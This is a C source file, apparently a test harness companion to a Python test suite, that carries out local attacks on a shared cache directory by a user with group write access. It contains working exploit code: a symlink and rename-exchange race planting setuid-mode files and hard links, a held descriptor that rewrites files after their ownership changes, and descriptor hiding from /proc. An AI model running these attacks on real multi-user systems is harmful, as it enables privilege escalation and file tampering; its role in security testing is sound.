/* attack race DIRECTORY TARGET LINKED | hold FILE TEXT | back CACHE NAME | deep DIRECTORY | lock DIRECTORY
 *
 * What a user does who has an account and group write on a shared cache, and nothing else:
 * test_5_attacks.py says against what. Static, as the machine has no compiler. Each says "ready" once it is, and
 * stays until it is killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <pthread.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

#define PAIRS 1000
#define INNER 16

static char **words;

static void die(const char *what)
{
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    exit(1);
}

static void ready(void)
{
    puts("ready");
    fflush(stdout);
}

/* The descriptors of a thread that has a table of its own are not in /proc/PID/fd, which shows the first one's. */
static void hide(void)
{
    if (unshare(CLONE_FILES) != 0)
        die("unshare");
}

static int open_directory(const char *path)
{
    int directory = open(path, O_RDONLY | O_DIRECTORY);
    if (directory < 0)
        die(path);
    return directory;
}

/* Whoever is given DIRECTORY in the order of its names finds a file that is swapped with a link to TARGET just
 * then. Once the first is given, LINKED gets names in there as well. */
static void *race(void *unused)
{
    static char names[2 * PAIRS][8];
    const char *target = words[1], *linked = words[2];
    struct stat found;
    char name[32];
    int count = 0, at = 0, has_linked = 0;

    hide();
    umask(0);
    int directory = open_directory(words[0]);
    for (int pair = 0; pair < PAIRS; pair++) {
        snprintf(name, sizeof name, "a%04d", pair);
        int file = openat(directory, name, O_WRONLY | O_CREAT | O_EXCL, 0666);
        if (file < 0 || fchmod(file, 06666) != 0)
            die(name);
        close(file);
        name[0] = 'b';
        if (symlinkat(target, directory, name) != 0)
            die(name);
    }
    for (int inner = 0; inner < INNER; inner++) {
        snprintf(name, sizeof name, "inner%02d", inner);
        if (mkdirat(directory, name, 0777) != 0)
            die(name);
    }
    DIR *listing = fdopendir(dup(directory));
    for (struct dirent *entry; (entry = readdir(listing));)
        if ((entry->d_name[0] == 'a' || entry->d_name[0] == 'b') && count < 2 * PAIRS)
            memcpy(names[count++], entry->d_name, 6);
    closedir(listing);
    ready();
    while (at + 2 < count) {
        for (int next = at + 8; next >= at; next--)
            if (next < count && fstatat(directory, names[next], &found, AT_SYMLINK_NOFOLLOW) == 0 &&
                found.st_uid != getuid()) {
                at = next + 1;
                break;
            }
        for (int next = at; next < at + 2 && next < count; next++) {
            char other[8];
            memcpy(other, names[next], sizeof other);
            other[0] = other[0] == 'a' ? 'b' : 'a';
            renameat2(directory, names[next], directory, other, RENAME_EXCHANGE);
        }
        if (at > 0 && !has_linked) {
            has_linked = 1;
            for (int inner = 0; inner < INNER; inner++) {
                snprintf(name, sizeof name, "inner%02d/linked", inner);
                linkat(AT_FDCWD, linked, directory, name, 0);
            }
        }
    }
    for (;;)
        pause();
    return unused;
}

/* Keeps FILE open, and writes TEXT into it once it is somebody else's. */
static void *hold(void *unused)
{
    struct stat found;
    hide();
    int file = open(words[0], O_WRONLY);
    if (file < 0)
        die(words[0]);
    ready();
    do {
        usleep(1000);
        if (fstat(file, &found) != 0)
            die("fstat");
    } while (found.st_uid == getuid());
    if (ftruncate(file, 0) != 0 || pwrite(file, words[1], strlen(words[1]), 0) < 0)
        die("write");
    for (;;)
        pause();
    return unused;
}

/* Once NAME has been taken out of CACHE, has a directory of its own there, and is seen in what was taken. */
static void *back(void *unused)
{
    const char *cache = words[0], *name = words[1];
    struct stat found;
    hide();
    int directory = open_directory(cache), own;
    mkdirat(directory, "own", 0777);
    own = openat(directory, "own", O_RDONLY | O_DIRECTORY);
    if (own < 0)
        die("own");
    ready();
    while (fstatat(directory, name, &found, AT_SYMLINK_NOFOLLOW) == 0)
        ;
    if (mkdirat(directory, name, 0777) != 0 || fchdir(own) != 0)
        die(name);
    for (;;)
        pause();
    return unused;
}

/* A working directory that the kernel cannot name: longer than PATH_MAX. */
static void deep(const char *directory)
{
    char name[251];
    memset(name, 'd', sizeof name - 1);
    name[sizeof name - 1] = '\0';
    if (chdir(directory) != 0)
        die(directory);
    for (int level = 0; level < 20; level++)
        if ((mkdir(name, 0777) != 0 && errno != EEXIST) || chdir(name) != 0)
            die("mkdir");
}

/* Every lock there is on a file. */
static int lock(const char *path, const struct stat *found, int type, struct FTW *where)
{
    (void)found, (void)type, (void)where;
    struct flock whole = {.l_type = F_WRLCK, .l_whence = SEEK_SET};
    int file = open(path, O_RDWR);
    if (file < 0) {
        whole.l_type = F_RDLCK;
        file = open(path, O_RDONLY);
    }
    if (file < 0)
        return 0;
    flock(file, LOCK_EX | LOCK_NB);
    fcntl(file, F_SETLK, &whole);
    return 0;
}

int main(int count, char **arguments)
{
    pthread_t thread;
    const char *what = count > 2 ? arguments[1] : "";
    words = arguments + 2;
    if (strcmp(what, "race") == 0 && count == 5)
        pthread_create(&thread, NULL, race, NULL);
    else if (strcmp(what, "hold") == 0 && count == 4)
        pthread_create(&thread, NULL, hold, NULL);
    else if (strcmp(what, "back") == 0 && count == 4)
        pthread_create(&thread, NULL, back, NULL);
    else if (strcmp(what, "deep") == 0 && count == 3) {
        deep(words[0]);
        ready();
    } else if (strcmp(what, "lock") == 0 && count == 3) {
        if (nftw(words[0], lock, 8, FTW_PHYS) != 0)
            die(words[0]);
        ready();
    } else {
        fputs("usage: see the head of attack.c\n", stderr);
        return 2;
    }
    for (;;)
        pause();
}
